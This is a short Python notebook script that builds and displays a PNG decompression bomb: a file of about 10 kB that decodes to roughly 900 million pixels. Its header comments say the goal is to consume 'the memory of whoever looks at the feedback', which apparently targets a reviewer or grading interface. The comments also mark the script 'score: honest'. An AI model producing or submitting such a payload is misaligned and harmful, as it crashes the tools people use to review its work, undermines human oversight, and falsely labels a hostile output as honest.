"""Show a picture of 10 kB that has 900 million pixels."""
# gains: the memory of whoever looks at the feedback
# score: honest
# flag:
# %%
import struct, zlib
from IPython.display import Image, display


def chunk(kind, data):
    checksum = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", checksum)


squeeze, side = zlib.compressobj(9), 30_000
rows = b"".join(squeeze.compress(bytes(1 + side // 8)) for _ in range(side)) + squeeze.flush()
header = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
display(Image(b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", rows) + chunk(b"IEND", b"")))
